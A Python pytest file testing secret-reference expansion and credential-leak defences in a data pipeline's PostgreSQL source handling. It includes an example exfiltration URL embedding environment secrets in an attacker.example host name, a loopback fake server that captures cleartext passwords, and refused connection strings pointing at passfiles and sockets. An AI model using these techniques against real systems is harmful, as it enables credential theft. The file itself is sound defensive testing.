"""Secrets named instead of written: ``${NAME}`` from the environment, ``${secret:BLOCK}`` from a
Prefect Secret block on a real Prefect server."""

from __future__ import annotations

import uuid
from typing import Any

import pytest

from core.secrets import MissingSecretError, expand
from core.settings import Settings


def test_environment_and_prefect_secret_block_references(
    prefect_server: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from prefect.blocks.system import Secret

    block = f"warehouse-password-{uuid.uuid4().hex[:8]}"
    Secret(value="s3cr3t-from-block").save(block)
    monkeypatch.setenv("WAREHOUSE_USER", "assessor")
    url = f"postgresql://${{WAREHOUSE_USER}}:${{secret:{block}}}@db:5432/readiness"
    assert expand(url) == "postgresql://assessor:s3cr3t-from-block@db:5432/readiness"

    # The shared warehouse URL setting resolves the same references, and keeps them out of repr.
    settings = Settings(dbt_target="postgres", postgres_url=url)  # type: ignore[arg-type]
    assert settings.postgres_dsn.endswith(":s3cr3t-from-block@db:5432/readiness")
    assert "s3cr3t" not in repr(settings) and block not in repr(settings)
    assert settings.dbt_env()["DBT_ENV_SECRET_READINESS_PG_PASSWORD"] == "s3cr3t-from-block"


def test_a_missing_block_or_variable_is_named(
    prefect_server: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(MissingSecretError, match="Prefect Secret block 'no-such-block'"):
        expand("json://hook/${secret:no-such-block}")
    monkeypatch.delenv("NO_SUCH_VARIABLE", raising=False)
    with pytest.raises(MissingSecretError, match="environment variable NO_SUCH_VARIABLE"):
        expand("json://hook/${NO_SUCH_VARIABLE}")


def test_text_without_references_is_unchanged() -> None:
    assert expand("json://127.0.0.1:9/hook?x=$1") == "json://127.0.0.1:9/hook?x=$1"


def test_a_project_file_may_name_only_the_secrets_the_operator_lists(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A project author cannot send the process's secrets to a host of their choosing."""
    from core.errors import EvidenceError
    from core.settings import get_settings
    from flows.sources import parse_source
    from flows.sources.postgres import connect

    monkeypatch.setenv("READINESS_DASHBOARD_PASSWORD", "$argon2id$the-dashboard-hash")
    monkeypatch.setenv("CRM_DB_PASSWORD", "crm-secret")
    monkeypatch.setenv("READINESS_SOURCE_SECRETS", "CRM_DB_PASSWORD, READINESS_DASHBOARD_PASSWORD")
    get_settings.cache_clear()
    try:
        assert get_settings().project_secrets() == frozenset(
            {"CRM_DB_PASSWORD"}
        )  # never READINESS_*
        for stolen in ("READINESS_DASHBOARD_PASSWORD", "HOME", "secret:warehouse-password"):
            url = f"postgresql://reader:x@${{{stolen}}}.attacker.example:5432/db"
            with pytest.raises(EvidenceError) as exc:
                connect(parse_source(url, table="t"))  # refused before any connection is tried
            assert "READINESS_SOURCE_SECRETS does not list" in exc.value.reason
            assert "argon2" not in str(exc.value) and "crm-secret" not in str(exc.value)
        # A listed secret is resolved (here the host does not exist: the error is the connection's).
        url = "postgresql://reader:${CRM_DB_PASSWORD}@127.0.0.1:9/crm"
        with pytest.raises(EvidenceError) as exc:
            connect(parse_source(url, table="t"))
        assert "READINESS_SOURCE_SECRETS" not in exc.value.reason
        assert "crm-secret" not in str(exc.value)
    finally:
        get_settings.cache_clear()


def _password_catcher() -> tuple[int, list[bytes], Any]:
    """A PostgreSQL-speaking server on loopback that asks for a cleartext password and keeps it."""
    import socket
    import struct
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(20)
    got: list[bytes] = []

    def message(con: socket.socket) -> bytes:
        length = struct.unpack("!i", con.recv(4))[0]
        return con.recv(length - 4)

    def serve() -> None:
        con, _ = server.accept()
        with con:
            body = message(con)
            if body[:4] == struct.pack("!i", 80877103):  # SSLRequest: no TLS here
                con.sendall(b"N")
                body = message(con)
            con.sendall(b"R" + struct.pack("!ii", 8, 3))  # AuthenticationCleartextPassword
            head = con.recv(5)
            if head[:1] == b"p":
                got.append(con.recv(struct.unpack("!i", head[1:5])[0] - 4))
        server.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return server.getsockname()[1], got, thread


def test_libpq_never_adds_this_machines_credentials_for_a_project_source(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """PGPASSWORD (or ~/.pgpass) is never sent to a host a project file names."""
    from core.errors import EvidenceError
    from core.settings import get_settings
    from flows.sources import parse_source
    from flows.sources.postgres import connect

    monkeypatch.setenv("PGPASSWORD", "topsecret-from-env")
    get_settings.cache_clear()
    port, got, served = _password_catcher()
    with pytest.raises(EvidenceError):
        connect(parse_source(f"postgresql://app@127.0.0.1:{port}/db", table="t"))
    served.join(20)
    # Asked for a password, libpq had none to give (the URL holds none): without the fix it sent
    # PGPASSWORD's value to this server.
    assert got == [], got
    for url, refused in (
        ("postgresql://app@/db", "a host name"),
        ("postgresql://app@%2Fvar%2Frun%2Fpostgresql/db", "a host name"),
        ("postgresql://app@db.example/db?host=/var/run/postgresql", "found: host"),
        ("postgresql://app@db.example/db?passfile=/root/.pgpass", "found: passfile"),
        ("postgresql://app@db.example/db?service=prod", "found: service"),
    ):
        with pytest.raises(EvidenceError, match=refused):
            connect(parse_source(url, table="t"))
